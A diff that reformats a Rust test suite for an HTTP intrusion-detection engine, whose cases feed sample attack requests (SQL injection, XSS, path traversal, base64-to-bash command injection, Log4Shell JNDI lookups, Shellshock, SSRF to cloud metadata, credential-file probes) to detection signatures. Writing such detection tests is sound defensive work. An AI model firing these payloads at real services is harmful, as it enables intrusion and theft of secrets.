@@ -47,7 +47,10 @@ fn run_with(cfg: &SignatureConfig, id: &str, events: Vec<ApiEvent<'static>>) -> 
         assert!(!a.description.is_empty() && !a.mitre.is_empty());
         assert!(a.evidence.len() <= rampart_model::MAX_EVIDENCE);
     }
-    out.iter().map(|a| a.title.clone()).collect::<Vec<_>>().join(" | ")
+    out.iter()
+        .map(|a| a.title.clone())
+        .collect::<Vec<_>>()
+        .join(" | ")
 }
 
 fn check(id: &str, events: Vec<ApiEvent<'static>>, expected: &str) {
@@ -78,22 +81,97 @@ fn from_ip(mut e: ApiEvent<'static>, ip: &str) -> ApiEvent<'static> {
 
 #[test]
 fn injection_families() {
-    check("injection", vec![ev("GET /foo?a=%20union%20select%20 404")], "SQL injection attempt");
-    check("injection", vec![ev("GET /foo?a=1'+or+1=1-- 200")], "SQL injection attempt");
-    check("injection", vec![ev("GET /foo?a=sleep%285%29 200")], "SQL injection attempt");
-    check("injection", vec![ev("GET /foo?a=%3Cscript%3Ealert(1) 200")], "Cross-site scripting attempt");
-    check("injection", vec![ev("GET /x?next=javascript:alert(1) 200")], "Cross-site scripting attempt");
-    check("injection", vec![ev("GET /%2fetc%2fpasswd 404")], "Path traversal attempt");
-    check("injection", vec![ev("GET /%252E%252E%252Ffoo 404")], "Path traversal attempt");
-    check("injection", vec![ev("POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh 200")], "Command injection attempt | Path traversal attempt");
-    check("injection", vec![ev("POST /index.php?login=$(echo${IFS}aGk=|base64${IFS}-d|bash) 302")], "Command injection attempt");
-    check("injection", vec![with_ua(ev("GET / 200"), "${jndi:ldap://x.y/a}")], "Log4Shell JNDI injection attempt");
-    check("injection", vec![with_ua(ev("GET / 200"), "${${lower:j}ndi:${lower:l}dap://x/a}")], "Log4Shell JNDI injection attempt");
-    check("injection", vec![ev("GET /?search=%24%7Bscript%3Ajs%3Ajava.lang.Runtime%7D 404")], "Text4Shell interpolation injection attempt");
-    check("injection", vec![ev("GET /path/?class.module.classLoader.URLs%5B0%5D=0 404")], "Spring4Shell class-loader manipulation attempt");
-    check("injection", vec![ev("GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/ 404")], "OGNL expression injection attempt");
-    check("injection", vec![ev("GET /?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array 200")], "PHP code injection attempt");
-    check("injection", vec![with_body(ev("POST /render 200"), r#"{"tpl":"{{7*7}}"}"#)], "Server-side template injection attempt");
+    check(
+        "injection",
+        vec![ev("GET /foo?a=%20union%20select%20 404")],
+        "SQL injection attempt",
+    );
+    check(
+        "injection",
+        vec![ev("GET /foo?a=1'+or+1=1-- 200")],
+        "SQL injection attempt",
+    );
+    check(
+        "injection",
+        vec![ev("GET /foo?a=sleep%285%29 200")],
+        "SQL injection attempt",
+    );
+    check(
+        "injection",
+        vec![ev("GET /foo?a=%3Cscript%3Ealert(1) 200")],
+        "Cross-site scripting attempt",
+    );
+    check(
+        "injection",
+        vec![ev("GET /x?next=javascript:alert(1) 200")],
+        "Cross-site scripting attempt",
+    );
+    check(
+        "injection",
+        vec![ev("GET /%2fetc%2fpasswd 404")],
+        "Path traversal attempt",
+    );
+    check(
+        "injection",
+        vec![ev("GET /%252E%252E%252Ffoo 404")],
+        "Path traversal attempt",
+    );
+    check(
+        "injection",
+        vec![ev("POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh 200")],
+        "Command injection attempt | Path traversal attempt",
+    );
+    check(
+        "injection",
+        vec![ev(
+            "POST /index.php?login=$(echo${IFS}aGk=|base64${IFS}-d|bash) 302",
+        )],
+        "Command injection attempt",
+    );
+    check(
+        "injection",
+        vec![with_ua(ev("GET / 200"), "${jndi:ldap://x.y/a}")],
+        "Log4Shell JNDI injection attempt",
+    );
+    check(
+        "injection",
+        vec![with_ua(
+            ev("GET / 200"),
+            "${${lower:j}ndi:${lower:l}dap://x/a}",
+        )],
+        "Log4Shell JNDI injection attempt",
+    );
+    check(
+        "injection",
+        vec![ev(
+            "GET /?search=%24%7Bscript%3Ajs%3Ajava.lang.Runtime%7D 404",
+        )],
+        "Text4Shell interpolation injection attempt",
+    );
+    check(
+        "injection",
+        vec![ev("GET /path/?class.module.classLoader.URLs%5B0%5D=0 404")],
+        "Spring4Shell class-loader manipulation attempt",
+    );
+    check(
+        "injection",
+        vec![ev(
+            "GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/ 404",
+        )],
+        "OGNL expression injection attempt",
+    );
+    check(
+        "injection",
+        vec![ev(
+            "GET /?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array 200",
+        )],
+        "PHP code injection attempt",
+    );
+    check(
+        "injection",
+        vec![with_body(ev("POST /render 200"), r#"{"tpl":"{{7*7}}"}"#)],
+        "Server-side template injection attempt",
+    );
 }
 
 #[test]
@@ -133,18 +211,62 @@ fn injection_ignores_benign_api_traffic() {
 #[test]
 fn ssrf_cases() {
     let t = "Server-side request forgery attempt";
-    check("ssrf", vec![ev("GET /fetch?url=http://169.254.169.254/latest/meta-data/ 200")], t);
-    check("ssrf", vec![ev("GET /fetch?url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin 200")], t);
+    check(
+        "ssrf",
+        vec![ev(
+            "GET /fetch?url=http://169.254.169.254/latest/meta-data/ 200",
+        )],
+        t,
+    );
+    check(
+        "ssrf",
+        vec![ev(
+            "GET /fetch?url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin 200",
+        )],
+        t,
+    );
     check("ssrf", vec![ev("GET /fetch?u=http://2130706433/ 200")], t);
     check("ssrf", vec![ev("GET /fetch?u=http://0x7f000001/ 200")], t);
     check("ssrf", vec![ev("GET /fetch?u=http://[::1]:80/ 200")], t);
-    check("ssrf", vec![ev("GET /fetch?u=http://metadata.google.internal/computeMetadata/v1/ 200")], t);
+    check(
+        "ssrf",
+        vec![ev(
+            "GET /fetch?u=http://metadata.google.internal/computeMetadata/v1/ 200",
+        )],
+        t,
+    );
     check("ssrf", vec![ev("GET /logo?url=file:///etc/passwd 404")], t);
-    check("ssrf", vec![ev("GET /x?u=gopher://10.0.0.1:6379/_INFO 200")], t);
-    check("ssrf", vec![with_body(ev("POST /webhooks 201"), r#"{"callback":"http://192.168.1.10/hook"}"#)], t);
-    check("ssrf", vec![ev("GET /logo?url=https://cdn.example.com/a.png 200")], "");
-    check("ssrf", vec![ev("GET /r?next=https://app.example.com/home 302")], "");
-    check("ssrf", vec![with_body(ev("POST /x 200"), r#"{"site":"https://8.8.8.8/"}"#)], "");
+    check(
+        "ssrf",
+        vec![ev("GET /x?u=gopher://10.0.0.1:6379/_INFO 200")],
+        t,
+    );
+    check(
+        "ssrf",
+        vec![with_body(
+            ev("POST /webhooks 201"),
+            r#"{"callback":"http://192.168.1.10/hook"}"#,
+        )],
+        t,
+    );
+    check(
+        "ssrf",
+        vec![ev("GET /logo?url=https://cdn.example.com/a.png 200")],
+        "",
+    );
+    check(
+        "ssrf",
+        vec![ev("GET /r?next=https://app.example.com/home 302")],
+        "",
+    );
+    check(
+        "ssrf",
+        vec![with_body(
+            ev("POST /x 200"),
+            r#"{"site":"https://8.8.8.8/"}"#,
+        )],
+        "",
+    );
 }
 
 // ---- scanner ----
@@ -167,7 +289,10 @@ fn scanner_fires_on_many_distinct_404s() {
 #[test]
 fn scanner_ignores_static_and_repeats() {
     let mut evs: Vec<_> = (0..20).map(|_| ev("GET /missing 404")).collect();
-    for p in ["/a.js", "/b.css", "/c.png", "/d.woff2", "/e.svg", "/f.ico", "/g.map", "/h.jpg", "/i.gif", "/j.webp"] {
+    for p in [
+        "/a.js", "/b.css", "/c.png", "/d.woff2", "/e.svg", "/f.ico", "/g.map", "/h.jpg", "/i.gif",
+        "/j.webp",
+    ] {
         let mut e = ev("GET /x 404");
         e.path = Cow::Borrowed(p);
         evs.push(e);
@@ -179,62 +304,178 @@ fn scanner_ignores_static_and_repeats() {
 
 #[test]
 fn sensitive_file_cases() {
-    check("sensitive_file_probe", vec![ev("GET /.env 404")], "Probing for sensitive files");
-    check("sensitive_file_probe", vec![ev("GET /.git/config 200")], "Sensitive file served to a probing client");
-    check("sensitive_file_probe", vec![ev("GET /app/.ssh/id_rsa 403")], "Probing for sensitive files");
     check(
         "sensitive_file_probe",
-        vec![ev("GET /.bashrc 404"), ev("GET /.profile 404"), ev("GET /dump.sql 404")],
+        vec![ev("GET /.env 404")],
         "Probing for sensitive files",
     );
-    check("sensitive_file_probe", vec![ev("GET /.bashrc 404"), ev("GET /.profile 404")], "");
+    check(
+        "sensitive_file_probe",
+        vec![ev("GET /.git/config 200")],
+        "Sensitive file served to a probing client",
+    );
+    check(
+        "sensitive_file_probe",
+        vec![ev("GET /app/.ssh/id_rsa 403")],
+        "Probing for sensitive files",
+    );
+    check(
+        "sensitive_file_probe",
+        vec![
+            ev("GET /.bashrc 404"),
+            ev("GET /.profile 404"),
+            ev("GET /dump.sql 404"),
+        ],
+        "Probing for sensitive files",
+    );
+    check(
+        "sensitive_file_probe",
+        vec![ev("GET /.bashrc 404"), ev("GET /.profile 404")],
+        "",
+    );
     // Served .sql files (migrations) are not probes.
     check(
         "sensitive_file_probe",
-        vec![ev("GET /data/migrations/1_a.sql 200"), ev("GET /data/migrations/2_b.sql 200"), ev("GET /data/migrations/3_c.sql 304")],
+        vec![
+            ev("GET /data/migrations/1_a.sql 200"),
+            ev("GET /data/migrations/2_b.sql 200"),
+            ev("GET /data/migrations/3_c.sql 304"),
+        ],
         "",
     );
-    check("sensitive_file_probe", vec![ev("GET /api/environment 200"), ev("GET /docs/config 200")], "");
+    check(
+        "sensitive_file_probe",
+        vec![ev("GET /api/environment 200"), ev("GET /docs/config 200")],
+        "",
+    );
 }
 
 #[test]
 fn admin_probe_cases() {
-    check("admin_probe", vec![ev("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 200")], "PHPUnit eval-stdin RCE probe (CVE-2017-9841)");
-    check("admin_probe", vec![ev("GET /Telerik.Web.UI.WebResource.axd?type=rau 404")], "Telerik UI deserialization probe (CVE-2019-18935)");
-    check("admin_probe", vec![ev("GET /Telerik.Web.UI.WebResource.axd?type=img 200")], "");
-    check("admin_probe", vec![ev("GET /s72_Shell.php 404")], "Webshell access attempt");
     check(
         "admin_probe",
-        vec![ev("GET /phpmyadmin2017/index.php 404"), ev("GET /administrator/db/index.php 404")],
+        vec![ev(
+            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 200",
+        )],
+        "PHPUnit eval-stdin RCE probe (CVE-2017-9841)",
+    );
+    check(
+        "admin_probe",
+        vec![ev("GET /Telerik.Web.UI.WebResource.axd?type=rau 404")],
+        "Telerik UI deserialization probe (CVE-2019-18935)",
+    );
+    check(
+        "admin_probe",
+        vec![ev("GET /Telerik.Web.UI.WebResource.axd?type=img 200")],
+        "",
+    );
+    check(
+        "admin_probe",
+        vec![ev("GET /s72_Shell.php 404")],
+        "Webshell access attempt",
+    );
+    check(
+        "admin_probe",
+        vec![
+            ev("GET /phpmyadmin2017/index.php 404"),
+            ev("GET /administrator/db/index.php 404"),
+        ],
         "Admin interface probing",
     );
     // Real admin pages answering, and a single miss, are not probing.
-    check("admin_probe", vec![ev("POST /admin/login 302"), ev("GET /solr/admin/info/system 500")], "");
+    check(
+        "admin_probe",
+        vec![
+            ev("POST /admin/login 302"),
+            ev("GET /solr/admin/info/system 500"),
+        ],
+        "",
+    );
     check("admin_probe", vec![ev("GET /wp-admin/ 404")], "");
-    check("admin_probe", vec![ev("GET /api/v2/admins/12 200"), ev("GET /api/console-logs 404")], "");
+    check(
+        "admin_probe",
+        vec![
+            ev("GET /api/v2/admins/12 200"),
+            ev("GET /api/console-logs 404"),
+        ],
+        "",
+    );
 }
 
 // ---- user agents ----
 
 #[test]
 fn user_agent_cases() {
-    check("suspicious_user_agent", vec![with_ua(ev("GET / 200"), "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)")], "Attack tool user agent: Nikto");
-    check("suspicious_user_agent", vec![with_ua(ev("GET / 200"), "sqlmap/1.7#stable (https://sqlmap.org)")], "Attack tool user agent: sqlmap");
-    check("suspicious_user_agent", vec![with_ua(ev("GET / 200"), "Mozilla/5.0 zgrab/0.x")], "Attack tool user agent: ZGrab");
-    check("suspicious_user_agent", vec![with_ua(ev("GET / 200"), "() { :;}; /bin/bash -c 'id'")], "Exploit payload in user agent: Shellshock payload");
-    check("suspicious_user_agent", vec![with_ua(ev("GET / 200"), "python-requests/2.31.0")], "Scripting client user agent: python-requests");
-    check("suspicious_user_agent", vec![with_ua(ev("GET / 200"), "curl/8.5.0")], "");
-    check("suspicious_user_agent", vec![with_ua(ev("GET / 200"), "Go-http-client/1.1")], "");
-    check("suspicious_user_agent", vec![with_ua(ev("GET / 200"), "okhttp/4.12.0"), with_ua(ev("GET / 200"), "Roku/DVP-13.1 (13.1.4.01510-30)")], "");
+    check(
+        "suspicious_user_agent",
+        vec![with_ua(
+            ev("GET / 200"),
+            "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)",
+        )],
+        "Attack tool user agent: Nikto",
+    );
+    check(
+        "suspicious_user_agent",
+        vec![with_ua(
+            ev("GET / 200"),
+            "sqlmap/1.7#stable (https://sqlmap.org)",
+        )],
+        "Attack tool user agent: sqlmap",
+    );
+    check(
+        "suspicious_user_agent",
+        vec![with_ua(ev("GET / 200"), "Mozilla/5.0 zgrab/0.x")],
+        "Attack tool user agent: ZGrab",
+    );
+    check(
+        "suspicious_user_agent",
+        vec![with_ua(ev("GET / 200"), "() { :;}; /bin/bash -c 'id'")],
+        "Exploit payload in user agent: Shellshock payload",
+    );
+    check(
+        "suspicious_user_agent",
+        vec![with_ua(ev("GET / 200"), "python-requests/2.31.0")],
+        "Scripting client user agent: python-requests",
+    );
+    check(
+        "suspicious_user_agent",
+        vec![with_ua(ev("GET / 200"), "curl/8.5.0")],
+        "",
+    );
+    check(
+        "suspicious_user_agent",
+        vec![with_ua(ev("GET / 200"), "Go-http-client/1.1")],
+        "",
+    );
+    check(
+        "suspicious_user_agent",
+        vec![
+            with_ua(ev("GET / 200"), "okhttp/4.12.0"),
+            with_ua(ev("GET / 200"), "Roku/DVP-13.1 (13.1.4.01510-30)"),
+        ],
+        "",
+    );
 }
 
 // ---- protocol abuse ----
 
 #[test]
 fn protocol_cases() {
-    check("protocol_abuse", vec![ev("CONNECT foo.com:25 400")], "Open proxy probe");
-    check("protocol_abuse", vec![ev("GET http://www.sbjudge4.com:80/ip4.php 400")], "Open proxy probe");
-    check("protocol_abuse", vec![ev("GET /w00tw00t.at.ISC.SANS.DFind 404")], "w00tw00t scanner probe");
+    check(
+        "protocol_abuse",
+        vec![ev("CONNECT foo.com:25 400")],
+        "Open proxy probe",
+    );
+    check(
+        "protocol_abuse",
+        vec![ev("GET http://www.sbjudge4.com:80/ip4.php 400")],
+        "Open proxy probe",
+    );
+    check(
+        "protocol_abuse",
+        vec![ev("GET /w00tw00t.at.ISC.SANS.DFind 404")],
+        "w00tw00t scanner probe",
+    );
     let mut e = ev("GET / 400");
     e.protocol = Cow::Borrowed("HTTP/1.2");
     check("protocol_abuse", vec![e], "Invalid HTTP version");
@@ -257,17 +498,44 @@ fn threat_intel_parse_and_swap() {
     let cfg = SignatureConfig::default();
     let handle = cfg.intel.intel.clone();
     assert_eq!(run_with(&cfg, "threat_intel_ip", vec![ev("GET / 200")]), "");
-    let feed = ThreatIntel::parse("blocklist", FeedFormat::Plain, "# comment\n198.51.100.0/24\n203.0.113.9\n").unwrap();
+    let feed = ThreatIntel::parse(
+        "blocklist",
+        FeedFormat::Plain,
+        "# comment\n198.51.100.0/24\n203.0.113.9\n",
+    )
+    .unwrap();
     let tor = ThreatIntel::parse("tor", FeedFormat::Plain, "203.0.113.9\n").unwrap();
     handle.store(Arc::new(feed.with(tor)));
-    assert_eq!(run_with(&cfg, "threat_intel_ip", vec![ev("GET / 200"), ev("GET /b 200")]), "Request from an IP listed by threat feed blocklist");
-    assert_eq!(run_with(&cfg, "tor_exit", vec![ev("GET / 200")]), "Request from a Tor exit node");
-    assert_eq!(run_with(&cfg, "tor_exit", vec![from_ip(ev("GET / 200"), "198.51.100.7")]), "");
+    assert_eq!(
+        run_with(
+            &cfg,
+            "threat_intel_ip",
+            vec![ev("GET / 200"), ev("GET /b 200")]
+        ),
+        "Request from an IP listed by threat feed blocklist"
+    );
+    assert_eq!(
+        run_with(&cfg, "tor_exit", vec![ev("GET / 200")]),
+        "Request from a Tor exit node"
+    );
+    assert_eq!(
+        run_with(
+            &cfg,
+            "tor_exit",
+            vec![from_ip(ev("GET / 200"), "198.51.100.7")]
+        ),
+        ""
+    );
 }
 
 #[test]
 fn threat_intel_formats() {
-    let csv = ThreatIntel::parse("c", FeedFormat::Csv, "first_seen,ip_address,port\n2024-01-01,192.0.2.1,80\n2024-01-01,2001:db8::/32,443\n").unwrap();
+    let csv = ThreatIntel::parse(
+        "c",
+        FeedFormat::Csv,
+        "first_seen,ip_address,port\n2024-01-01,192.0.2.1,80\n2024-01-01,2001:db8::/32,443\n",
+    )
+    .unwrap();
     assert!(csv.in_feed("c", "192.0.2.1".parse().unwrap()));
     assert!(csv.in_feed("c", "2001:db8::5".parse().unwrap()));
     assert!(!csv.in_feed("c", "192.0.2.2".parse().unwrap()));
@@ -282,7 +550,10 @@ fn threat_intel_formats() {
     assert!(s.in_feed("s", "2001:db8::1".parse().unwrap()));
     assert!(s.in_feed("s", "::ffff:192.0.2.9".parse().unwrap()));
     let err = ThreatIntel::parse("bad", FeedFormat::Plain, "1.2.3.4\nnot-an-ip\n").unwrap_err();
-    assert_eq!(err.to_string(), "invalid plain feed \"bad\": line 2: not an ip or cidr: \"not-an-ip\"");
+    assert_eq!(
+        err.to_string(),
+        "invalid plain feed \"bad\": line 2: not an ip or cidr: \"not-an-ip\""
+    );
     assert!(ThreatIntel::parse("bad", FeedFormat::Csv, "a,b\n1,2\n").is_err());
     assert!(ThreatIntel::parse("bad", FeedFormat::Stix, "{").is_err());
 }
@@ -291,21 +562,85 @@ fn threat_intel_formats() {
 
 #[test]
 fn exposure_cases() {
-    check("sensitive_data_exposure", vec![with_response(ev("GET /api/users/1 200"), r#"{"card":"4111 1111 1111 1111"}"#)], "Payment card numbers in a response");
-    check("sensitive_data_exposure", vec![with_response(ev("GET /api/debug 200"), "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----")], "Private key or cloud credential in a response");
-    check("sensitive_data_exposure", vec![with_response(ev("GET /api/users/1 200"), r#"{"card":"4111 1111 1111 1112"}"#)], "");
-    check("sensitive_data_exposure", vec![with_response(ev("GET /api/users/1 404"), r#"{"card":"4111 1111 1111 1111"}"#)], "");
-    check("sensitive_data_exposure", vec![with_response(ev("GET /api/users/1 200"), r#"{"name":"Alice","email":"alice@example.com"}"#)], "");
+    check(
+        "sensitive_data_exposure",
+        vec![with_response(
+            ev("GET /api/users/1 200"),
+            r#"{"card":"4111 1111 1111 1111"}"#,
+        )],
+        "Payment card numbers in a response",
+    );
+    check(
+        "sensitive_data_exposure",
+        vec![with_response(
+            ev("GET /api/debug 200"),
+            "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----",
+        )],
+        "Private key or cloud credential in a response",
+    );
+    check(
+        "sensitive_data_exposure",
+        vec![with_response(
+            ev("GET /api/users/1 200"),
+            r#"{"card":"4111 1111 1111 1112"}"#,
+        )],
+        "",
+    );
+    check(
+        "sensitive_data_exposure",
+        vec![with_response(
+            ev("GET /api/users/1 404"),
+            r#"{"card":"4111 1111 1111 1111"}"#,
+        )],
+        "",
+    );
+    check(
+        "sensitive_data_exposure",
+        vec![with_response(
+            ev("GET /api/users/1 200"),
+            r#"{"name":"Alice","email":"alice@example.com"}"#,
+        )],
+        "",
+    );
 }
 
 #[test]
 fn misconfig_cases() {
-    check("security_misconfig", vec![ev("TRACE / 200")], "HTTP TRACE enabled");
+    check(
+        "security_misconfig",
+        vec![ev("TRACE / 200")],
+        "HTTP TRACE enabled",
+    );
     check("security_misconfig", vec![ev("TRACE / 405")], "");
-    check("security_misconfig", vec![with_response(ev("GET /api/x 500"), "Traceback (most recent call last):\n  File \"app.py\"")], "Verbose error leaked: Python traceback");
-    check("security_misconfig", vec![with_response(ev("GET /api/x 500"), "java.lang.NullPointerException\n\tat com.acme.Foo.bar(Foo.java:10)")], "Verbose error leaked: Java stack trace");
-    check("security_misconfig", vec![ev("GET /actuator/env 200")], "Debug endpoint exposed: /actuator/env");
-    check("security_misconfig", vec![ev("GET /actuator/env 404"), with_response(ev("GET /api/x 500"), r#"{"error":"internal"}"#)], "");
+    check(
+        "security_misconfig",
+        vec![with_response(
+            ev("GET /api/x 500"),
+            "Traceback (most recent call last):\n  File \"app.py\"",
+        )],
+        "Verbose error leaked: Python traceback",
+    );
+    check(
+        "security_misconfig",
+        vec![with_response(
+            ev("GET /api/x 500"),
+            "java.lang.NullPointerException\n\tat com.acme.Foo.bar(Foo.java:10)",
+        )],
+        "Verbose error leaked: Java stack trace",
+    );
+    check(
+        "security_misconfig",
+        vec![ev("GET /actuator/env 200")],
+        "Debug endpoint exposed: /actuator/env",
+    );
+    check(
+        "security_misconfig",
+        vec![
+            ev("GET /actuator/env 404"),
+            with_response(ev("GET /api/x 500"), r#"{"error":"internal"}"#),
+        ],
+        "",
+    );
 }
 
 // ---- inventory ----
@@ -361,11 +696,42 @@ fn failure(kind: EventKind, msg: &'static str) -> ApiEvent<'static> {
 
 #[test]
 fn auth_failure_cases() {
-    let f = || failure(EventKind::AuthFailure, "user \"foo\" was not found in \"/tmp/a.htpasswd\"");
+    let f = || {
+        failure(
+            EventKind::AuthFailure,
+            "user \"foo\" was not found in \"/tmp/a.htpasswd\"",
+        )
+    };
     check("auth_failures", vec![f(), f(), f()], "");
-    check("auth_failures", vec![f(), f(), f(), f()], "Burst of authentication failures");
-    check("auth_failures", vec![failure(EventKind::Waf, "Coraza: Access denied (phase 2). Inbound Anomaly Score Exceeded (Total Score: 10)")], "WAF blocked an attack");
-    check("auth_failures", vec![failure(EventKind::Waf, "limiting requests, excess: 5.4 by zone")], "");
-    check("auth_failures", (0..5).map(|_| ev("GET /api/me 401")).collect(), "");
-    check("auth_failures", (0..6).map(|_| ev("GET /api/me 401")).collect(), "Burst of authentication failures");
+    check(
+        "auth_failures",
+        vec![f(), f(), f(), f()],
+        "Burst of authentication failures",
+    );
+    check(
+        "auth_failures",
+        vec![failure(
+            EventKind::Waf,
+            "Coraza: Access denied (phase 2). Inbound Anomaly Score Exceeded (Total Score: 10)",
+        )],
+        "WAF blocked an attack",
+    );
+    check(
+        "auth_failures",
+        vec![failure(
+            EventKind::Waf,
+            "limiting requests, excess: 5.4 by zone",
+        )],
+        "",
+    );
+    check(
+        "auth_failures",
+        (0..5).map(|_| ev("GET /api/me 401")).collect(),
+        "",
+    );
+    check(
+        "auth_failures",
+        (0..6).map(|_| ev("GET /api/me 401")).collect(),
+        "Burst of authentication failures",
+    );
 }
